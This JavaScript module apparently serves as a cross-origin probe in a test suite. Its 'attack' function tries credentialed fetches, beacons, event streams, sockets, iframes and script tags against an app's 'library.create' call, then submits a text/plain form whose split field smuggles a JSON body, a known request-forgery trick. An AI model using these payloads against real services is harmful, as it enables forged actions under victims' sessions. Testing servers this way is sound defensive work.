/** Runs in the page of somebody else: every way that a page has of asking another address. Gives what it learned. */
export async function attack(own, home) {
  const call = `${own}/call/library.create`;
  const body = (name) => JSON.stringify({ folder: home, name, publisher: 'x' });
  const learned = {};
  const attempt = async (name, way) => {
    const late = new Promise((resolve) => setTimeout(() => resolve('silence'), 2_000));
    learned[name] = await Promise.race([way().catch(() => 'refused'), late]);
  };
  const element = (tag, set) =>
    new Promise((resolve) => {
      const made = document.createElement(tag);
      made.onload = () => resolve('loaded');
      made.onerror = () => resolve('refused');
      Object.assign(made, set);
      document.body.append(made);
    });
  const read = async (response) => (response.type === 'opaque' ? 'opaque' : `${response.status}`);
  await attempt('post as JSON', () =>
    fetch(call, { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: body('a') }).then(read),
  );
  await attempt('post as a form would', () =>
    fetch(call, { method: 'POST', mode: 'no-cors', credentials: 'include', body: body('b') }).then(read),
  );
  await attempt('send on leaving', async () => `${navigator.sendBeacon(call, new Blob([body('c')], { type: 'text/plain' }))}`);
  await attempt('read the page', () => fetch(own, { credentials: 'include' }).then(read));
  await attempt(
    'listen',
    () =>
      new Promise((resolve) => {
        const source = new EventSource(`${own}/events?window=12345678`, { withCredentials: true });
        source.onopen = () => resolve('listening');
        source.onerror = () => resolve('refused');
      }),
  );
  await attempt('take a script', () => element('script', { src: `${own}/assets/index.js` }));
  await attempt('take a picture', () => element('img', { src: `${own}/output/picture.svg` }));
  await attempt(
    'open a socket',
    () =>
      new Promise((resolve) => {
        const socket = new WebSocket(own.replace('http', 'ws'));
        socket.onopen = () => resolve('open');
        socket.onerror = () => resolve('refused');
      }),
  );
  await attempt(
    'frame it',
    () =>
      new Promise((resolve) => {
        const frame = document.createElement('iframe');
        frame.src = own;
        frame.onload = () => {
          try {
            // Readable only when it is of the attacker's own origin.
            resolve(frame.contentDocument?.body.textContent ?? 'closed');
          } catch {
            resolve('closed');
          }
        };
        document.body.append(frame);
      }),
  );
  const form = document.createElement('form');
  form.action = call;
  form.method = 'POST';
  form.enctype = 'text/plain';
  form.target = 'elsewhere';
  const field = document.createElement('input');
  field.name = body('d').slice(0, -1);
  field.value = '"}';
  form.append(field);
  document.body.append(form);
  form.submit();
  return learned;
}
